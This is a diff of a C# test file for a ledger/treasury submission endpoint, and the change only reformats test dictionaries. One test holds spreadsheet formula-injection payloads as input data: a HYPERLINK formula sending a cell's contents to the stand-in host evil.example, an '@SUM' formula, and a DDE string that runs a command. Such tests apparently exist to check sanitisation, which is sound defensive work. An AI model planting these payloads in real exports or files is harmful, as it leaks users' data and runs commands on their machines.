@@ -122,7 +122,12 @@ public sealed class LedgerTests(CommonsFixture commons)
         var (_, member) = await commons.PersonAsync("Reader");
         var (created, _) = await client.SubmitAsync("/commons/treasury", new Dictionary<string, string>
         {
-            ["Kind"] = "Expense", ["Amount"] = "42.50", ["Currency"] = "USD", ["Description"] = "Call facilitation, \"March\"", ["Category"] = "facilitation", ["Date"] = "2026-03-01",
+            ["Kind"] = "Expense",
+            ["Amount"] = "42.50",
+            ["Currency"] = "USD",
+            ["Description"] = "Call facilitation, \"March\"",
+            ["Category"] = "facilitation",
+            ["Date"] = "2026-03-01",
         }, "Entry");
         Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);
         var count = await commons.DbAsync(db => db.LedgerEntries.CountAsync());
@@ -153,7 +158,12 @@ public sealed class LedgerTests(CommonsFixture commons)
         const string hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
         var (created, _) = await client.SubmitAsync("/commons/treasury", new Dictionary<string, string>
         {
-            ["Kind"] = "Expense", ["Amount"] = "12.50", ["Currency"] = "EUR", ["Description"] = hyperlink, ["Category"] = "@SUM(1+1)", ["Date"] = "2026-04-01",
+            ["Kind"] = "Expense",
+            ["Amount"] = "12.50",
+            ["Currency"] = "EUR",
+            ["Description"] = hyperlink,
+            ["Category"] = "@SUM(1+1)",
+            ["Date"] = "2026-04-01",
         }, "Entry");
         Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);
         const string imported = "+1+cmd|' /C calc'!A0";
